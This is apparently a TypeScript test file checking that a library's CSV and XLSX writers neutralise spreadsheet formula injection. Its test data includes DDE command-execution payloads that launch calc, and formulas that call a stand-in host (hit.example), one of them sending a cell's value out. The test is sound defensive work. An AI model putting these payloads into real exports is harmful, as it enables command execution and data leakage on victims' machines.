import { readFileSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { Zip } from "../../../src/datasets/formats/zip.js";
import { load } from "../../../src/datasets/load.js";
import { writeCsv } from "../../../src/datasets/out/write-csv.js";
import { writeXlsx } from "../../../src/datasets/out/write-xlsx.js";
import { writeRejects } from "../../../src/datasets/rejects.js";
import { temporaryFolder } from "../../datasets/temporary-folder.js";
import { figure } from "../sized.js";

const { folder } = temporaryFolder();

/** What a spreadsheet runs, asks a network for, or starts a program with, behind each of its first signs. */
const BODIES = [
  `=HYPERLINK("https://hit.example/?x="&A1,"open")`,
  `=cmd|' /C calc'!A0`,
  `=DDE("cmd";"/C calc";"x")`,
  `=WEBSERVICE("https://hit.example/")`,
  `=IMPORTXML("https://hit.example/","//x")`,
  `=IMAGE("https://hit.example/x.png")`,
  `=1+1`,
  `+1+1`,
  `+cmd|' /C calc'!A0`,
  `-1+1`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `@cmd|' /C calc'!A0`,
  `=`,
  `-`,
  `＝1+1`,
  `＋1+1`,
  `－1+1`,
  `＠SUM(1)`,
] as const;

/** What stands in front where a program that opens the file takes it away first. */
const FRONTS = ["", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u200f", "'", "''"] as const;

const PAYLOADS = FRONTS.flatMap((front) => BODIES.map((body) => `${front}${body}`));

/** Texts behind whose separators another program begins a cell. */
const PARTED = [";", "\t", "|", ",", "\n", "\r", '"', '";', '",', "';"].flatMap((sign) => [
  `x${sign}=1+1`,
  `${sign}=cmd|' /C calc'!A0`,
]);

/** The cells of a CSV file as programs read it that part cells at any of these signs outside of quotes, whatever we meant. */
function cellsOf(text: string, separators: string): string[] {
  const cells: string[] = [];
  let [cell, isQuoted] = ["", false];
  for (let i = 0; i < text.length; i++) {
    const sign = text[i]!;
    if (isQuoted && sign === '"' && text[i + 1] === '"') cell += text[++i];
    else if (sign === '"' && (isQuoted || cell === "")) isQuoted = !isQuoted;
    else if (!isQuoted && (separators.includes(sign) || sign === "\n" || sign === "\r")) {
      cells.push(cell);
      cell = "";
    } else cell += sign;
  }
  return [...cells, cell];
}

/** Blanks and marks that are not seen go first; then one of the signs makes a formula of the rest. */
const RUNS = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;

test("no text in a CSV file that is written is run by whatever opens it: values, names, rejected rows", async (context) => {
  const texts = [...PAYLOADS, ...PARTED];
  const file = join(folder, "texts.csv");
  const rows = texts.map((text) => ({ text }));
  const { schema, layout } = await writeCsv(rows, file);
  const named = await writeCsv([Object.fromEntries(BODIES.map((body) => [body, "x"]))], join(folder, "names.csv"));
  const issue = { rule: "type", effect: "row", message: "m", hint: "h" } as const;
  const listed = texts.map((value, i) => ({ ...issue, row: i + 1, line: i + 2, column: value, value, message: value }));
  await mkdir(join(folder, "rejects"));
  const { issues } = await writeRejects(
    join(folder, "rejects"),
    join(folder, "in.csv"),
    { cells: [["text"], ...texts.map((text) => [text])] },
    listed as never,
  );
  const files = [file, named.file, issues, join(folder, "rejects", "in.rejected.csv")];
  const run: string[] = [];
  for (const one of files) {
    const content = readFileSync(one, "utf8").replace(/^\ufeff/, "");
    // Told to part cells at another sign, a program sees the quotes of a first column only: SECURITY.md says so.
    for (const separators of one === file ? [",", ";", "\t", "|"] : [","]) {
      for (const cell of cellsOf(content, separators))
        if (RUNS.test(cell)) run.push(`${one.slice(folder.length)}: ${cell}`);
    }
  }
  figure(context, {
    what: "texts in written CSV files that a spreadsheet would run",
    cases: texts.length * 3 + BODIES.length,
    found: String(run.length),
    bar: "0",
    held: run.length === 0,
  });
  expect(run).toEqual([]);
  // Nothing is lost by it: read back they are what they were.
  const back = await load(file, { schema, layout });
  expect((back.values as [string][]).map(([text]) => text)).toEqual(texts);
});

test("no text in a workbook that is written is a formula, a link or a connection: values, names, sheets", async (context) => {
  const texts = [...PAYLOADS, ...PARTED];
  const file = join(folder, "texts.xlsx");
  const sheets = BODIES.map((body) => [body, [{ [body]: "x" }]] as const);
  await writeXlsx([["texts", texts.map((text) => ({ text }))], ...sheets], file);
  const zip = await Zip.open(file);
  const live: string[] = [];
  let shared = "";
  for (const entry of zip.entries.values()) {
    const parts: Buffer[] = [];
    for await (const piece of zip.content(entry)) parts.push(piece);
    const xml = Buffer.concat(parts).toString("utf8");
    if (/sharedStrings/.test(entry.name)) shared = xml;
    if (/externalLink|connections|vba|macro|hyperlink/i.test(entry.name)) live.push(entry.name);
    for (const [tag] of xml.matchAll(
      /<(f|hyperlink|definedName|ddeLink|oleLink|externalReference|dataValidation)\b[^>]*>/g,
    ))
      live.push(`${entry.name}: ${tag}`);
    for (const [target] of xml.matchAll(/TargetMode="External"|Target="(?:https?|file):[^"]*"/g)) live.push(target);
    for (const [cell] of xml.matchAll(/<c [^>]*t="(?:str|e)"[^>]*>/g)) live.push(`${entry.name}: ${cell}`);
  }
  figure(context, {
    what: "formulas and links in written workbooks",
    cases: texts.length + 2 * BODIES.length,
    found: String(live.length),
    bar: "0",
    held: live.length === 0,
  });
  expect(live).toEqual([]);
  expect(shared).toContain("HYPERLINK(&quot;https://hit.example/");
  expect(texts.length).toBeGreaterThanOrEqual(40);
});
